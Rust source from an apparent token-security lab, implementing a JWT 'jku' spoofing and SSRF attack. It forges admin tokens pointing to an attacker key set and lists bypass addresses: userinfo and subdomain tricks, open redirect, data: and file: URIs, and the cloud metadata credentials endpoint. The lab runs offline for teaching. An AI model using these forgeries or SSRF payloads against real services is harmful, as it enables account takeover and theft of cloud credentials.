//! The address of a key in the token: the attacker publishes a key set of her
//! own and has the verifier fetch it.
//!
//! The flawed assumption: whoever is named as the source of the key is its
//! source. `jku` (RFC 7515 §4.1.2) is what the attacker writes. Two things come
//! of following it: a forged token, and a request that the server makes for
//! her, to places that she can't reach (SSRF). RFC 8725 §3.10 asks for a list
//! of addresses and warns of requests; draft-ietf-oauth-rfc8725bis adds DNS.
//! Bitten: PyPI PyJWT's `PyJWKClient`, which opens `file:` and `data:` as well
//! (CVE-2026-48522).
//!
//! A list of beginnings is no list of addresses: what follows may make a user
//! name of the issuer's host, a subdomain, or a redirect. Nothing is fetched
//! over a network here: the lab's web is a table in this process.
//!
//! Neither PASETO nor Biscuit has an address in its format. A footer is free
//! text, so that an application can invent one, and has the same bug then.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Map, Value};
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, OWN_DOMAIN, OWN_UPLOAD};
use crate::card::AttackProfile;
use crate::key_name;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct JkuSpoofSsrf;

static PROFILE: AttackProfile = AttackProfile {
    id: "jku-spoof-ssrf",
    title: "Key fetched from where the token says",
    assumption: "Whatever address is named as the source of the key is the issuer's.",
    class: AttackClass::KeySource,
    given: &[],
    isolated: false,
    breaks: &[Weakness::JkuFollowed, Weakness::JkuPrefixList],
    references: &[
        ("RFC 7515 §4.1.2", "jku is an address of the key set."),
        (
            "RFC 8725 §3.10",
            "Following jku or x5u blindly allows a server-side request forgery; the address is held against a list.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §3.10",
            "Names that lead to loopback or to internal addresses are refused as well.",
        ),
        (
            "CVE-2026-48522",
            "PyPI PyJWT before 2.13.0: PyJWKClient opens addresses of any scheme, file and data among them; fixed in 2.13.0.",
        ),
    ],
    lesson: include_str!("../../lessons/jku-spoof-ssrf.md"),
};

impl Attack for JkuSpoofSsrf {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let own_site = format!("https://{OWN_DOMAIN}/jwks.json");
        match view.scheme() {
            Scheme::Jwt(_) | Scheme::Jwe(..) => {
                let set = view.own_key_set()?;
                notes.step(
                    "Publishes a key set with a key of her own: on her site, and in the picture of her profile.",
                    String::from_utf8_lossy(&set),
                );
                notes.step("Makes a token, in which the subject is admin, with that key.", "");
                let data = format!("data:application/json;base64,{}", STANDARD.encode(set));
                let mut forgeries = Vec::new();
                for (variant, says, url) in addresses(own_site, data) {
                    notes.variant_step(variant, says, url.as_str());
                    let jku = Map::from_iter([("jku".to_owned(), Value::from(url))]);
                    forgeries.push(Forgery::new(variant, view.token_saying(&jku)?));
                }
                Ok(forgeries)
            }
            Scheme::Paseto(..) => {
                let variant = "address-in-footer";
                notes.variant_step(
                    variant,
                    "Makes a token, in which the subject is admin, with a key of her own, and writes an address into the footer.",
                    own_site.as_str(),
                );
                let jku = Map::from_iter([("jku".to_owned(), Value::from(own_site))]);
                Err(CannotForge::Inexpressible {
                    why: "a PASETO has no place for an address, unless an application invents one".into(),
                    tried: vec![Forgery::analogue(
                        variant,
                        view.token_saying(&jku)?,
                        "the footer is free text, and an address can stand there as well as anything",
                    )],
                })
            }
            Scheme::Biscuit => Err(key_name::only_a_number(view, &own_site, notes)?),
            Scheme::Session(_) => {
                let variant = "address-for-id";
                notes.variant_step(
                    variant,
                    "Sends the address of her site for an id.",
                    own_site.as_str(),
                );
                Err(CannotForge::Inexpressible {
                    why: "the id of a session names a row of the store and no address".into(),
                    tried: vec![Forgery::analogue(
                        variant,
                        own_site,
                        "an id holds nothing else, so that the address takes its place",
                    )],
                })
            }
        }
    }
}

/// Where she sends the verifier: a name, what she does, the address.
fn addresses(own_site: String, data: String) -> [(&'static str, &'static str, String); 7] {
    const ISSUER: &str = "https://issuer.example";
    [
        ("own-site", "Names her own site.", own_site.clone()),
        (
            "issuer-as-user",
            "Names her own site, with the issuer's host as the user who asks.",
            format!("{ISSUER}@{OWN_DOMAIN}/jwks.json"),
        ),
        (
            "issuer-as-subdomain",
            "Names a site within her own that is called like the issuer's.",
            format!("{ISSUER}.{OWN_DOMAIN}/jwks.json"),
        ),
        (
            "open-redirect",
            "Names a page of the issuer's that sends its readers on to any address.",
            format!("{ISSUER}/login?next={own_site}"),
        ),
        ("data-address", "Writes the key set itself for an address.", data),
        (
            "uploaded-file",
            "Names the file of the picture that she uploaded.",
            format!("file://{OWN_UPLOAD}"),
        ),
        (
            "metadata-service",
            "Names an address that only the server reaches: no key is to be had there, and the request is made all the same.",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/web".into(),
        ),
    ]
}
